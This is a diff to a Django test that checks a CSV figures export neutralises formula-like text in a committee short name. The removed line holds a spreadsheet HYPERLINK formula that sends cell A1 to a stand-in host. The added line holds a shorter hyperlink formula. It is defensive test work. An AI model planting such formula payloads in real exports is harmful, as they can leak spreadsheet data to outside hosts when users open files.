@@ -138,7 +138,7 @@ class FigurePagesTest(TestCase):
         )
 
     def test_exports_write_text_that_looks_like_a_formula_as_text(self):
-        attack = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'
+        attack = '=HYPERLINK("http://x.cn","点")'  # short_name holds 40 characters
         CommitteeSettings.objects.filter(site=self.county).update(short_name=attack)
         response = self.client.get("/figures/export.csv", HTTP_HOST=self.prefecture.hostname)
         rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
